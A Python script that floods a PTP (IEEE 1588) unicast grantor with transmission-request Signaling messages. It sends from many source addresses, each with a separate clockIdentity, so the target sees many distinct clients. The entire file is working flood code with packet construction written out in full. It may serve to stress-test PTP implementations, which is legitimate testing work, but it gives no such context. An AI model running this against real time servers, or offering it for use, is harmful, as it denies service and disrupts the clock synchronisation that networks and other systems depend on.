#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Flood a grantor with REQUEST_UNICAST_TRANSMISSION (IEEE 1588-2019 16.1) from many addresses.

Usage: unicast-flood.py TARGET ROUNDS SOURCE...

Each round sends, from each SOURCE address (configured on this host), one Signaling message with
a REQUEST for Announce (every second, for 60 s) to TARGET's general port 320, each source with a
clockIdentity of its own. Prints the number of messages sent.
"""
import socket
import struct
import sys


def request(k, seq):
    tlv = struct.pack('>HHBbI', 0x0004, 6, 0xB0, 0, 60)
    length = 44 + len(tlv)
    hdr = bytearray(34)
    hdr[0] = 0x0C  # Signaling
    hdr[1] = 0x02  # versionPTP 2
    struct.pack_into('>H', hdr, 2, length)
    struct.pack_into('>H', hdr, 6, 0x0400)  # unicastFlag
    hdr[20:28] = b'\x0a\xf1' + struct.pack('>IH', k, 0)
    struct.pack_into('>H', hdr, 28, 1)
    struct.pack_into('>H', hdr, 30, seq & 0xFFFF)
    hdr[32] = 5
    hdr[33] = 0x7F
    return bytes(hdr) + b'\xff' * 10 + tlv


def main():
    target, rounds, sources = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
    socks = []
    for src in sources:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((src, 0))
        socks.append(s)
    sent = 0
    for r in range(rounds):
        for k, s in enumerate(socks):
            s.sendto(request(k, r), (target, 320))
            sent += 1
    print(sent)


if __name__ == '__main__':
    main()
